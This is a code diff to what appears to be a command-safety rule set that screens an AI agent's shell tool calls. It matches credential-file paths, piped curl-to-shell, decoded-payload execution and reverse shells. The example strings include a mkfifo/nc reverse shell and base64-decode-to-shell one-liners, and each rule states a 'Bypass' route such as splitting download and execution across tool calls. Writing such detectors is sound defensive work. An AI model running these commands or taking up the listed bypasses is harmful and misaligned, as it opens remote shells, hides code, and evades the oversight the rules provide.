@@ -34,7 +34,7 @@ const CRON = /^\/etc\/(cron\.(d|daily|hourly|weekly|monthly)\/|crontab$|anacront
 const SYSTEMD = re(`^(/etc/systemd/(system|user)/|/lib/systemd/system/|/usr/lib/systemd/(system|user)/|${HOME}/\\.config/systemd/user/).*\\.(service|timer|socket|path)$|^/etc/(init\\.d/|rc\\.local$|rc[0-6S]\\.d/)|^/etc/ld\\.so\\.preload$|^/etc/xdg/autostart/|^${HOME}/\\.config/autostart/`);
 const AUTH_KEYS = /(^|\/)\.ssh\/authorized_keys2?$|^\/etc\/ssh\/authorized_keys/;
 const SSH_CONFIG = re(`^(${HOME}/\\.ssh/config|/etc/ssh/ssh_config(\\.d/.*)?)$`);
-const CREDS = re(`^${HOME}/(\\.ssh|\\.aws|\\.config/gcloud|\\.azure|\\.kube|\\.gnupg|\\.docker|\\.password-store)/?$|^${HOME}/(\\.ssh/(id_[a-z0-9_]+|identity|[^/]*\\.pem|[^/]*_key)$|\\.aws/(credentials|config)$|\\.config/gcloud(/|$)|\\.azure(/|$)|\\.kube/config$|\\.docker/config\\.json$|\\.netrc$|\\.git-credentials$|\\.pgpass$|\\.vault-token$|\\.npmrc$|\\.pypirc$)|^/etc/shadow$|^/var/run/secrets/|^/run/secrets/`);
+const CREDS = re(`^${HOME}/(\\.ssh|\\.aws|\\.config/gcloud|\\.azure|\\.kube|\\.gnupg|\\.docker|\\.password-store)/?$|^${HOME}/\\.ssh/\\*$|^${HOME}/(\\.ssh/(id_[a-z0-9_*?[\\]]+|identity|[^/]*\\.pem|[^/]*_key)$|\\.aws/(credentials|config)$|\\.config/gcloud(/|$)|\\.azure(/|$)|\\.kube/config$|\\.docker/config\\.json$|\\.netrc$|\\.git-credentials$|\\.pgpass$|\\.vault-token$|\\.npmrc$|\\.pypirc$)|^/etc/shadow$|^/var/run/secrets/|^/run/secrets/`);
 const CORRAL = re(`^(/run/corral|/var/lib/corral|/etc/corral|${HOME}/\\.corral|/sys/fs/cgroup)(/|$)`);
 const LOGS = re(`^(/var/log/|${HOME}/\\.(bash|zsh|sh|python)_history$|${HOME}/\\.histfile$|${HOME}/\\.local/share/fish/fish_history$)`);
 
@@ -57,6 +57,11 @@ export const FACT_RULES: FactRule[] = [
     desc: 'A shell, interpreter, eval or source runs code produced by a downloader or network tool (curl … | sh, sh -c "$(curl …)", bash <(wget -O- …), python3 <(curl …)). Bypass: download to a file in one tool call and run it in the next.',
     reason: 'Piping downloaded content straight into a shell or interpreter is not allowed; download the file, inspect it, and run only what the task needs.',
     test: (r, n) => (runsCode(n) && (r.flags.includes('code_from_input') || n === 'eval' || n === 'source' || n === '.') && r.input_from.some((x) => DOWNLOADERS.has(x) && !NET_TOOLS.has(x)) ? `${n} runs code fed by ${r.input_from.filter((x) => DOWNLOADERS.has(x)).join(', ')}` : null) },
+  { id: 'cmd_decoded_exec', category: 'defense_evasion', severity: 'high', attack: ['T1140', 'T1027'],
+    examples: { match: ['cat x.b64 | base64 -d | sh', 'echo bHM= | base64 --decode | bash', 'xxd -r -p payload.hex | python3'], nomatch: ['echo aGk= | base64 -d', 'base64 -d in.b64 > out.bin'] },
+    desc: 'A shell or interpreter runs code that was decoded on the way in (base64 -d, base32 -d, xxd -r, rev, openssl -d, gunzip …). When the payload is static it is also analysed; this rule fires even when it is not (a file the analyzer cannot read). Bypass: decoding into a file in one call and running it in the next.',
+    reason: 'Running encoded or obfuscated code hides what it does; decode it, review it, and run only what the task needs.',
+    test: (r, n) => (runsCode(n) && r.flags.includes('code_from_input') && r.input_from.some((x) => /^(base64|base32|basenc|xxd|rev|openssl|gunzip|zcat|uudecode|tr)$/.test(x)) ? `${n} runs code decoded by ${r.input_from.filter((x) => /^(base64|base32|basenc|xxd|rev|openssl|gunzip|zcat|uudecode|tr)$/.test(x)).join(', ')}` : null) },
   { id: 'cmd_shell_over_network',
     examples: { match: ["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "nc 10.0.0.1 4444 | /bin/bash"], nomatch: ["nc -l 8080 > received.txt", "ls | grep sh"] }, category: 'reverse_shell', severity: 'critical', attack: ['T1059.004', 'T1095'],
     desc: 'A shell and a network tool are joined by pipes (mkfifo/nc/telnet/openssl s_client relays): cat f | sh -i | nc host port > f, nc host port | sh. Bypass: a network client written in a language the inline analyzer cannot read.',
